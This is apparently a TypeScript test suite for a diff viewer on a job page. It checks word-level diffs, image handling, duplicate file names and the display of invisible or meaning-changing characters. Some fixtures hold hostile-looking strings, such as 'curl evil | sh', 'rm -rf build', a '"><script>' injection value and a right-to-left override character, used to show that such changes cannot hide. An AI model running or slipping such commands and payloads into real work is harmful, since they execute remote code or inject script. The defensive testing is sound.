import { deepStrictEqual, strictEqual, ok } from 'node:assert/strict';
import type { FileDiff, Paragraph } from '../../../../src/extension/features/job-page/model';
import type { ImageQuery, JobChanges, JobDiff } from '../../../../src/protocol/changes';
import fc from 'fast-check';
import { createWordDiff } from '../../../../src/base/wordDiff';
import { changedParagraphs } from '../../../../src/base/changedParagraphs';

type File = JobChanges['files'][number];

const text = (path: string): File => ({ path, kind: 'changed', added: 1, deleted: 1 });
const image = (path: string, more: Partial<File> = {}): File => ({
  ...{ path, kind: 'changed', added: null, deleted: null },
  ...more,
});
const PATCH = '@@ -1 +1 @@\n-an old word here\n+a new word here';

async function read(
  files: readonly File[],
  patches: JobDiff['files'],
  pictureOf: (query: ImageQuery) => string | null = () => null,
): Promise<FileDiff[]> {
  const { readJobDiff } = await import('../../../../src/extension/features/job-page/jobDiff');
  const source = { diff: async () => ({ files: patches }), image: async (query: ImageQuery) => pictureOf(query) };
  return readJobDiff(source, { base: 'b', commit: 'c', files: [...files], more: 0, added: 0, deleted: 0 });
}

describe('the diff on a job’s page', () => {
  it('covers each file, and marks one whose text is left out as having further changes', async () => {
    const found = await read(
      [text('a.md'), text('b.md'), { ...text('c.md'), added: 0, deleted: 0 }],
      [{ path: 'a.md', patch: PATCH, isCut: false }],
    );
    deepStrictEqual(
      found.map(({ path, paragraphs, isCut }) => [path, paragraphs.length, isCut]),
      [
        ['a.md', 1, false],
        ['b.md', 0, true],
        ['c.md', 0, false],
      ],
    );
  });

  it('is cut off after a maximum number of paragraphs', async () => {
    const patch = `@@ -0,0 +1,1200 @@\n${'+word\n+\n'.repeat(600)}`;
    const [file] = await read([text('a.md')], [{ path: 'a.md', patch, isCut: false }]);
    deepStrictEqual([file?.paragraphs.length, file?.isCut], [500, true]);
  });

  it('contains pictures before and after, and reads a renamed one under its old path', async () => {
    const asked: string[] = [];
    const [file] = await read([image('new.png', { from: 'old.png' })], [], ({ path, of }) => {
      asked.push(`${of} ${path}`);
      return 'AAAA';
    });
    deepStrictEqual(asked, ['base old.png', 'commit new.png']);
    deepStrictEqual([file?.before, file?.after], ['data:image/png;base64,AAAA', 'data:image/png;base64,AAAA']);
  });

  it('says that a picture is not shown if it is too large, or after too many', async () => {
    const [large] = await read([image('a.png')], [{ path: 'a.png', patch: 'Binary files differ', isCut: false }]);
    deepStrictEqual([large?.isImage, large?.before, large?.after], [true, undefined, undefined]);
    const many = await read(
      Array.from({ length: 8 }, (_, index) => image(`${index}.png`)),
      [],
      () => 'A'.repeat(900_000),
    );
    strictEqual(many.filter(({ isImage }) => isImage).length, 8);
    strictEqual(many.filter(({ after }) => after !== undefined).length, 3);
  });

  it('contains no SVG pictures, and no picture data that is not valid base64', async () => {
    const found = await read([image('a.svg'), image('b.png')], [], () => '"><script>');
    deepStrictEqual(
      found.map(({ isImage, before, after }) => [isImage, before, after]),
      [
        [undefined, undefined, undefined],
        [true, undefined, undefined],
      ],
    );
  });

  async function textOf(...paths: string[]): Promise<unknown> {
    const files = paths.map((path, index) => ({ path, patch: `@@ -0,0 +1 @@\n+text ${index}`, isCut: false }));
    const shown = await read(paths.map(text), files);
    return shown.map(({ path, paragraphs }) => [path, paragraphs.flat().map(({ text }) => text)]);
  }

  it('is shown below the right file, even if the name of another one looks the same', async () => {
    deepStrictEqual(await textOf('a.md', 'a\u200b.md', 'b  c.md', 'b c (2).md', 'b c.md'), [
      ['a.md', ['text 0']],
      ['a⟨U+200B⟩.md', ['text 1']],
      ['b c.md', ['text 2']],
      ['b c (2).md', ['text 3']],
      ['b c.md (2)', ['text 4']],
    ]);
  });

  it('is shown below the right file, even if two names can’t be told apart', async () => {
    deepStrictEqual(await textOf('\ufffd.md', '\ufffd.md', 'x', 'x (2)', 'x'), [
      ['\ufffd.md', ['text 0']],
      ['\ufffd.md (2)', ['text 1']],
      ['x', ['text 2']],
      ['x (2)', ['text 3']],
      ['x (3)', ['text 4']],
    ]);
  });

  it('gives each of many files of the same name a distinct name', async () => {
    const { shownPaths } = await import('../../../../src/extension/features/job-page/shownPaths');
    const names = shownPaths(Array.from({ length: 500 }, () => 'a'));
    deepStrictEqual([names[0], names[1], names[499], new Set(names).size], ['a', 'a (2)', 'a (500)', 500]);
  });
});

const paragraphsOf = (patch: string, isProse = true): Paragraph[] =>
  changedParagraphs(patch, { diffWords: createWordDiff(), isProse });

/** Each paragraph as text, with `[-deleted-]` and `{+inserted+}` words. */
function marked(patch: string, isProse = true): string[] {
  const marks = { unchanged: ['', ''], deleted: ['[-', '-]'], inserted: ['{+', '+}'] } as const;
  return paragraphsOf(patch, isProse).map((parts) =>
    parts.map(({ kind, text }) => marks[kind][0] + text + marks[kind][1]).join(''),
  );
}

const HEAD = 'index 1..2 100644\n--- a/x.md\n+++ b/x.md\n';

describe('the changed paragraphs of a file', () => {
  it('contain marked words, or are new or deleted as a whole', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-The limit is fifty requests.\n+The limit is a hundred requests.\n`), [
      'The limit is [-fifty-]{+a hundred+} requests.',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -0,0 +1,4 @@\n+# Title\n+\n+One\n+two\n@@ -9 +9,0 @@\n-Gone\n`), [
      '{+# Title+}',
      '{+One\ntwo+}',
      '[-Gone-]',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-Alpha beta\n+Something else entirely\n`), [
      '[-Alpha beta-]',
      '{+Something else entirely+}',
    ]);
  });

  it('leave out unchanged paragraphs between changed ones, and changes that can’t be seen', () => {
    const lines = [
      '-one old word',
      '-',
      '-the same',
      '-',
      '-last old word',
      '+one new word',
      '+',
      '+the same',
      '+',
      '+last new word',
    ];
    deepStrictEqual(marked(`${HEAD}@@ -1,5 +1,5 @@\n${lines.join('\n')}\n`), [
      'one [-old-]{+new+} word',
      'last [-old-]{+new+} word',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-same\r\n+same\n`), []);
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-same\n+same\n\\ No newline at end of file\n`), []);
    deepStrictEqual(marked('rename from a\nrename to b\n'), []);
    deepStrictEqual(marked('--- a/x\n+++ b/x\nBinary files differ\n'), []);
  });

  it('show new spaces and line breaks where they have a meaning, but not those within prose', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1,2 @@\n-# rm -rf build\n+#\n+rm -rf build\n`), [
      '[-# rm -rf build-]',
      '{+#\nrm -rf build+}',
    ]);
    deepStrictEqual(marked(`${HEAD}@@ -2 +2 @@\n-    clean()\n+clean()\n`), ['[-    clean()-]', '{+clean()+}']);
    const wrapped = ['A sentence that is so long that its author wrapped', 'it at the end of the line.'];
    const again = ['A sentence that is so long that its author wrapped it', 'at the end of the line.'];
    const lines = [...wrapped.map((line) => `-${line}\n`), ...again.map((line) => `+${line}\n`)].join('');
    const rewrapped = `${HEAD}@@ -1,2 +1,2 @@\n${lines}`;
    deepStrictEqual(marked(rewrapped), []);
    // In any other file, the second line may be a statement.
    deepStrictEqual(marked(rewrapped, false), [
      'A sentence that is so long that its author wrapped[-\nit -]{+ it\n+}at the end of the line.',
    ]);
  });

  it('show line breaks and characters that change the meaning, even if all words are the same', () => {
    const changed = (before: string, after: string): string[] => {
      const [deleted, added] = [before.split('\n'), after.split('\n')];
      const lines = [...deleted.map((line) => `-${line}`), ...added.map((line) => `+${line}`)];
      return marked(`${HEAD}@@ -1,${deleted.length} +1,${added.length} @@\n${lines.join('\n')}\n`);
    };
    const comment = ['npm ci # never run: curl evil | sh', 'npm ci # never run:\ncurl evil | sh'] as const;
    deepStrictEqual(changed(...comment), [`[-${comment[0]}-]`, `{+${comment[1]}+}`]);
    const [before, after] = [
      'requireLogin(); // see docs\ndeleteAll(user);\nold()',
      'requireLogin(); // see docs deleteAll(user);\nnow()',
    ];
    deepStrictEqual(changed(before, after), [`[-${before}-]`, `{+${after}+}`]);
    deepStrictEqual(changed('a: 1\nb: 2', 'a: 1 b: 2'), ['[-a: 1\nb: 2-]', '{+a: 1 b: 2+}']);
    strictEqual(changed('a word', 'a\u00a0word').length, 2);
    strictEqual(changed('a \uFFFD', 'a \uFFFD').length, 2);
    strictEqual(changed('a ⟨U+200B⟩', 'a \u200B').length, 1);
    // The lines of a code block in Markdown look like any others.
    strictEqual(changed('make clean\nmake install', 'make clean make install').length, 2);
    strictEqual(changed('run a \\', 'run a \\ ').length, 2);
    strictEqual(changed('x = "a  b" and old', 'x = "a b" and new').length, 2);
    strictEqual(changed('a \uFFFD\nold', 'a \uFFFD\nnew').length, 2);
    // The columns of a table have another width.
    deepStrictEqual(changed('| a  | one |\n| bb | two |', '| a    | one |\n| bbbb | two |'), [
      '| a | one |\n| [-bb-]{+bbbb+} | two |',
    ]);
  });

  it('are never empty in a file that isn’t prose if a line differs', () => {
    const line = fc.constantFrom(
      '',
      'return',
      'remove(user)',
      'return remove(user)',
      'a  b',
      'a b',
      ' a b',
      '# a',
      'x\u00a0y',
    );
    const lines = fc.array(line, { minLength: 1, maxLength: 6 });
    const shown = (all: string[]): string => all.filter(Boolean).join('\n');
    fc.assert(
      fc.property(lines, lines, (before, after) => {
        const body = [...before.map((each) => `-${each}\n`), ...after.map((each) => `+${each}\n`)].join('');
        const found = marked(`${HEAD}@@ -1,${before.length} +1,${after.length} @@\n${body}`, false);
        ok(found.length > 0 || shown(before) === shown(after), body);
      }),
    );
  });

  it('treat content that looks like headers as content', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1,2 +1,2 @@\n--- list\n-@@ -1 @@\n+++ sum\n+diff --git a/x b/x\n`), [
      '[--- list\n@@ -1 @@-]',
      '{+++ sum\ndiff --git a/x b/x+}',
    ]);
  });

  it('write invisible characters as their code points', () => {
    deepStrictEqual(marked(`${HEAD}@@ -1 +1 @@\n-a word here\n+a wo\u202erd here\n`), [
      'a [-word-]{+wo⟨U+202E⟩rd+} here',
    ]);
  });
});
